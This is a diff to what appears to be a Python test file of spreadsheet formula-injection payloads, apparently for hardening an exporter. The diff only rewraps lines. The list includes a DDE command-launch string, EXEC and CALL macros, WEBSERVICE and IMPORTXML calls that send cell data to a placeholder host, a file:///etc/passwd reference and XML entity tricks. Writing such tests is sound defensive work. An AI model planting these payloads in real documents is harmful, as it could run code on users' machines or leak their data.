@@ -22,11 +22,14 @@ BODIES = [
     "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://example.org","x")', "SUM(A1:A9)", "DDE('a';'b';'c')", "A1", "@x",
     'WEBSERVICE("http://example.org")', "IMPORTXML(CONCAT(\"http://example.org\",A1),\"//a\")", "<r>&boom;</r>",
     "</t></is></c><c><f>1+1</f></c>", "]]>", "<!--", "&lt;f&gt;", "_x003D_1+1", "http://example.org",
-    "file:///etc/passwd", "mailto:a@example.org", "internal:Findings!A1", "external:a.xlsx#A1", "{=1+1}", "1e999", "TRUE", "#REF!",
+    "file:///etc/passwd", "mailto:a@example.org", "internal:Findings!A1", "external:a.xlsx#A1", "{=1+1}",
+    "1e999", "TRUE", "#REF!",
     "0001", "2026-03-01", "12:30", "\u202e=1+1", "\U0001f600", "a" * 300, "\\u003d1", "%0A=1", "{{7*7}}",
-    "${7*7}", "<script>", "\\", "x\ny", "\ud7ff", '"";""', "a;b,c\td", "=1\t=2", "+441234", "-1", "--1", "@SUM(1)", "R1C1", "INDIRECT(\"A1\")",
+    "${7*7}", "<script>", "\\", "x\ny", "\ud7ff", '"";""', "a;b,c\td", "=1\t=2", "+441234", "-1", "--1",
+    "@SUM(1)", "R1C1", "INDIRECT(\"A1\")",
     "CALL(\"a\",\"b\")",
-    "REGISTER.ID(1)", "EXEC(\"calc\")", "RTD(\"a\",,\"b\")", "LET(a,1,a)", "LAMBDA(1)()", "[1]Sheet1!A1", "A1#", "$A$1",
+    "REGISTER.ID(1)", "EXEC(\"calc\")", "RTD(\"a\",,\"b\")", "LET(a,1,a)", "LAMBDA(1)()", "[1]Sheet1!A1",
+    "A1#", "$A$1",
     "'Evidence'!A1", "\xa0=1", "\u200b=1",
 ]  # fmt: skip
 PAYLOADS = [begin + body for begin, body in itertools.product(BEGINS, BODIES)]
